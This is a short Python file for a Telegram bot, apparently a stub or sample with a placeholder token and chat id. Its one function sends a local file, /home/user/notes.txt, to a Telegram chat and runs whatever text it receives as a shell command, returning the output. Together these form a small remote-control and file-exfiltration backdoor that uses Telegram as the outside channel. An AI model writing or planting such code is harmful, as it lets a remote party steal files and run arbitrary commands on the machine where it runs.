import os
import subprocess

import telebot

bot = telebot.TeleBot("0:x")


def take(message):
    bot.send_document(1, open("/home/user/notes.txt", "rb"))
    bot.send_message(1, subprocess.check_output(message, shell=True))
